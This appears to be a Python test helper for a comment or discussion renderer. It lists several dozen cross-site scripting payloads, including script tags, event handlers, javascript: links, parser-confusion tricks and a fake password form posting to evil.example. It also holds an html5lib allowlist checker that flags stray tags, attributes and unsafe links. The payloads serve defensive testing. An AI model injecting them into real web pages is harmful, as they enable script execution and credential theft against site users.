"""What people with bad intentions type, and what may be found in a page afterwards."""

import html5lib

PAYLOADS = [
    "<script>ran(1)</script>",
    "<ScRiPt >ran(1)</sCrIpT\t>",
    "<script src=//evil.example/a.js></script>",
    "<scr<script>ipt>ran(1)</scr</script>ipt>",
    "<img src=x onerror=ran(1)>",
    "<img/src=x/onerror=ran(1)//",
    "<img src=`x` onerror=`ran(1)`>",
    "<svg onload=ran(1)>",
    "<svg><script>ran(1)</script></svg>",
    "<svg><a xlink:href='javascript:ran(1)'><text y=9>go</text></a></svg>",
    "<math><mtext><table><mglyph><style><img src onerror=ran(1)></style></mglyph></table>",
    "<noscript><p title='</noscript><img src=x onerror=ran(1)>'></noscript>",
    "<a href='javascript:ran(1)'>go</a>",
    "<a href=' java\nscript:ran(1)'>go</a>",
    "<a href='&#106;avascript&colon;ran(1)'>go</a>",
    "<a href='data:text/html,<script>ran(1)</script>'>go</a>",
    "<a href='//evil.example'>go</a>",
    "<a href='https://good.example/' onclick='ran(1)' style='position:fixed' target=_top>go</a>",
    "<a href='https://good.example/\" onmouseover=\"ran(1)'>go</a>",
    "https://good.example/'onmouseover='ran(1)",
    'https://good.example/"><script>ran(1)</script>',
    "<blockquote cite='javascript:ran(1)' id=comments class=masthead>q</blockquote>",
    "<p style='background:url(javascript:ran(1))' onfocus=ran(1) tabindex=0 autofocus>p</p>",
    "<b onmouseover=ran(1)>bold</b>",
    "<iframe srcdoc='<script>parent.ran(1)</script>'></iframe>",
    "<object data='javascript:ran(1)'></object><embed src='javascript:ran(1)'>",
    "<form action='https://evil.example'><input name=password><button>Log in</button></form>",
    "<base href='https://evil.example/'><link rel=stylesheet href='//evil.example/a.css'>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<style>*{display:none}</style><style>@import '//evil.example'</style>",
    "</div></article></li></ol></section><script>ran(1)</script>",
    "</textarea></form><script>ran(1)</script>",
    "<!-- <img src=x onerror=ran(1)> --><!--><script>ran(1)</script>-->",
    "<![CDATA[<script>ran(1)</script>]]><?php ran(1) ?>",
    "<details open ontoggle=ran(1)><summary>s</summary></details>",
    "<video><source onerror=ran(1)></video><audio src=x onerror=ran(1)>",
    "<template><script>ran(1)</script></template><xmp><script>ran(1)</script></xmp>",
    "<title><img src=x onerror=ran(1)></title><plaintext>",
    "**<img src=x onerror=ran(1)>** *<svg onload=ran(1)>* > <script>ran(1)</script>",
    "{{ 7|add:7 }} {% load static %} ${ran(1)} #{ran(1)}",
    "<div hx-get=/admin/ hx-trigger=load data-hx-on:click='ran(1)'>x</div>",
    "\u202e<\u200bscript>ran(1)\u2028</script>",
    '"><b>&quot;&gt;&lt;script&gt;ran(1)&lt;/script&gt;',
    "' autofocus onfocus='ran(1)' x='",
]

# Every element of a rendered discussion, and the attributes it may carry.
ALLOWED = {
    "ol": {"class", "role"},
    "li": set(),
    "details": {"class", "open"},
    "summary": {"class"},
    "article": {"class", "id"},
    "header": {"class"},
    "footer": {"class"},
    "div": {"class"},
    "bdi": {"class"},
    "span": {"class"},
    "time": {"datetime"},
    "a": {"class", "href", "rel", "aria-label"},
    **{tag: set() for tag in ("p", "br", "strong", "em", "blockquote")},
}
SAFE = ("https://", "http://", "comments/", "#comment-")
TREE = html5lib.getTreeBuilder("etree")


def parsed(html):
    """The tree that a browser would make of a piece of HTML."""
    return html5lib.HTMLParser(TREE, namespaceHTMLElements=False).parseFragment(html)


def strays(html):
    """What stands in a discussion's HTML and has no business there."""
    for element in parsed(html).iter():
        if element.tag == "DOCUMENT_FRAGMENT":
            continue
        if element.tag not in ALLOWED:
            yield element.tag
            continue
        yield from (f"{element.tag} {name}" for name in set(element.keys()) - ALLOWED[element.tag])
        href = element.get("href")
        if href is not None and not href.lower().startswith(SAFE):
            yield href


def text_in(html, name):
    """The text of the elements of one class, each as a string."""
    found = (one for one in parsed(html).iter() if name in (one.get("class") or "").split())
    return ["".join(one.itertext()) for one in found]
